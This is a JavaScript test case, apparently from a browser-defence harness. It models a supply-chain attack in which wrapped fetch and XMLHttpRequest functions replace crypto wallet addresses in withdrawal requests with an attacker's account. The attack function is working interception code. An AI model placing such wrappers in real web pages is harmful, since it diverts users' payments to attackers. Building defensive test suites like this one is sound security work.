// B05: where wrappers are welcome and the policy lists nobody, a wrapper swaps the account that the page asked to pay.
import { reachedServer } from './logs.mjs';

export default {
  id: 'B05',
  title: 'request bodies and addresses swapped by outer layers, no payees listed',
  source: 'AppsFlyer Web SDK, March 2026',
  level: 'prevented',
  policy: () => ({ version: 1, wrappers: 'layer' }),

  attack(a) {
    const swap = (text) => (typeof text === 'string' ? text.replace(/0x[0-9a-fA-F]{40}/g, a.EVIL) : text);
    const before = window.fetch;
    window.fetch = async (input, init = {}) => {
      await null;
      return before(swap(input), { ...init, body: swap(init.body) });
    };
    const { open, send } = XMLHttpRequest.prototype;
    XMLHttpRequest.prototype.open = function (method, url, ...rest) {
      return open.call(this, method, swap(url), ...rest);
    };
    XMLHttpRequest.prototype.send = function (body) {
      return send.call(this, swap(body));
    };
  },

  async action(a) {
    const body = JSON.stringify({ amount: '5', note: a.GOOD });
    const post = { method: 'POST', headers: { 'Content-Type': 'application/json' }, body };
    const results = [
      await fetch('/api/withdraw', post).then(
        ({ status }) => status,
        (error) => error.name,
      ),
      await fetch(`/api/withdraw?note=${a.GOOD}`).then(
        ({ status }) => status,
        (error) => error.name,
      ),
    ];
    const load = (method, url, sent) =>
      new Promise((resolve) => {
        const xhr = new XMLHttpRequest();
        xhr.onload = () => resolve(xhr.status);
        xhr.onerror = () => resolve('error');
        xhr.open(method, url);
        xhr.send(sent);
      });
    results.push(await load('POST', '/api/withdraw', body), await load('GET', `/api/withdraw?note=${a.GOOD}`));
    return results;
  },

  stolen: ({ http, a }) => reachedServer(http, a.EVIL, '/api/withdraw'),
  arrived: ({ http, result, a }) => reachedServer(http, a.GOOD, '/api/withdraw') && result.join() === '200,200,200,200',
  violation: (a) => ({ grade: 'swapped', account: a.EVIL }),
};
